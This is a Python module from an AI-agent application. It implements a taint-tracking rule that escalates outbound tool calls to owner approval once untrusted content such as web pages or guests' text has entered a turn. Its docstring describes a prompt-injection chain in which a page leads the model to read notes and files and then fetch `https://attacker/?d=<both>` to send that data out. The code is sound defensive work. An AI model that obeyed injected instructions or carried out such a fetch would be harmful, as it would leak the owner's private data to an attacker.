"""The taint rule: once untrusted content has entered a turn, nothing leaves without the owner.

A page (or a guest, or a file someone else wrote) can carry instructions the model obeys. Each
tool's risk alone cannot see the attack: recalling notes (LOW), reading a file (LOW) and
fetching `https://attacker/?d=<both>` (MEDIUM) are each harmless. The core therefore carries,
for each turn (and each plan), a `TaintState`: which untrusted content entered and which private
data was read. The model's word never changes it, and it never drops within a turn or plan: a
summary of a page, or anything computed after it, is as untrusted as the page.

    untrusted content in the turn   call can send data out      verdict
    no                              any                         the table in gate.py, unchanged
    yes                             no                          the table, unchanged
    yes                             yes, to exactly an address  the table, unchanged
                                    the user typed
    yes                             yes, anything else          ask (deny stays deny); the owner
                                                                sees the full destination, the
                                                                body, and every private read of
                                                                the turn in the same approval

Tools declare their flow beside their risk (`ToolFlow`): `untrusted` (results come from outside:
web, pages, guests' writing), `sends_out` (a request to a host, a URL with data in it, a form,
a message), `private` (memory, files, history).
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from typing import Any

from app.policy.gate import Decision, Verdict

EXCERPT_CHARS = 300
MAX_SHOWN_READS = 12
_URL = re.compile(r"https?://[^\s<>\"'`]+", re.IGNORECASE)


@dataclass(frozen=True, kw_only=True)
class ToolFlow:
    """What a tool's data does, declared beside its risk."""

    untrusted: bool = False  # its results come from outside the owner's control
    sends_out: bool = False  # it can carry data off this PC
    private: bool = False  # it reads the owner's private data


@dataclass(frozen=True, kw_only=True)
class Outbound:
    """Exactly what one call would send, and where."""

    destination: str  # the full URL (or the page whose form/link would be used)
    body: str = ""  # what travels besides the URL (typed text, form fields)


@dataclass(frozen=True, kw_only=True)
class Source:
    """Untrusted content that entered the turn."""

    tool: str
    where: str


@dataclass(frozen=True, kw_only=True)
class PrivateRead:
    """Private data the turn has read (and so could be sent)."""

    tool: str
    what: str
    excerpt: str


@dataclass(frozen=True, kw_only=True)
class Judgement:
    """The verdict after the taint rule, and what the owner is shown when asked."""

    decision: Decision
    details: dict[str, Any] = field(default_factory=dict)


def excerpt(value: Any) -> str:
    """A short, single-line rendering of a value for an approval."""
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False, default=str)
    text = " ".join(text.split())
    return text if len(text) <= EXCERPT_CHARS else text[: EXCERPT_CHARS - 1] + "…"


@dataclass
class TaintState:
    """What one turn (or plan) has let in and read; owned by the core, never by the model."""

    user_text: str = ""
    sources: list[Source] = field(default_factory=list)
    private_reads: list[PrivateRead] = field(default_factory=list)

    @property
    def tainted(self) -> bool:
        """Has untrusted content entered?"""
        return bool(self.sources)

    def enter_untrusted(self, tool: str, where: str) -> None:
        """Untrusted content entered (a page, a guest's words, a file someone else wrote)."""
        self.sources.append(Source(tool=tool, where=excerpt(where)))

    def read_private(self, tool: str, what: str, content: Any) -> None:
        """Private data was read into the turn."""
        self.private_reads.append(PrivateRead(tool=tool, what=what, excerpt=excerpt(content)))

    def carry(self) -> TaintState:
        """A copy for a plan step or sub-turn: it starts as tainted as this one."""
        return TaintState(
            user_text=self.user_text,
            sources=list(self.sources),
            private_reads=list(self.private_reads),
        )

    def absorb(self, other: TaintState) -> None:
        """Fold back what a plan step let in and read (taint only ever grows)."""
        self.sources.extend(s for s in other.sources if s not in self.sources)
        self.private_reads.extend(r for r in other.private_reads if r not in self.private_reads)

    def user_typed(self, url: str) -> bool:
        """Is `url` exactly an address the user typed in this turn's own message?"""
        typed = {u.rstrip(".,;:!?)]}") for u in _URL.findall(self.user_text)}
        return url.strip() in typed

    def after_call(
        self, *, tool: str, flow: ToolFlow, args: dict[str, Any], result: Any, untrusted: bool
    ) -> None:
        """Record what a finished call brought into the turn."""
        if flow.private:
            self.read_private(tool, excerpt(args) if args else "", result)
        if untrusted:
            where = ""
            if isinstance(result, dict):
                where = str(result.get("url") or result.get("path") or "")
            self.enter_untrusted(tool, where or excerpt(args))

    def judge(
        self, decision: Decision, *, tool: str, flow: ToolFlow, outbound: Outbound | None
    ) -> Judgement:
        """Apply the rule to the gate's decision for one call."""
        if not self.tainted or not flow.sends_out or decision.verdict is Verdict.DENY:
            return Judgement(decision=decision)
        if outbound is not None and not outbound.body and self.user_typed(outbound.destination):
            return Judgement(decision=decision)
        destination = outbound.destination if outbound is not None else "(unknown)"
        body = outbound.body if outbound is not None else ""
        came_from = ", ".join(f"{s.tool} {s.where}".strip() for s in self.sources[:3])
        lines = [
            f"'{tool}' could send data out, and untrusted content ({came_from}) is in this "
            "conversation: it may be following instructions hidden there.",
            f"Sends to: {destination}",
        ]
        if body:
            lines.append(f"Data sent: {excerpt(body)}")
        shown = self.private_reads[-MAX_SHOWN_READS:]
        if shown:
            lines.append("Private data read in this turn (it could be in what is sent):")
            lines += [f"- {f'{r.tool} {r.what}'.strip()}: {r.excerpt}" for r in shown]
        details: dict[str, Any] = {
            "sends_to": destination,
            "body": body,
            "untrusted_sources": [{"tool": s.tool, "where": s.where} for s in self.sources],
            "private_reads": [
                {"tool": r.tool, "what": r.what, "excerpt": r.excerpt} for r in shown
            ],
        }
        return Judgement(
            decision=Decision(verdict=Verdict.ASK, reason="\n".join(lines)), details=details
        )
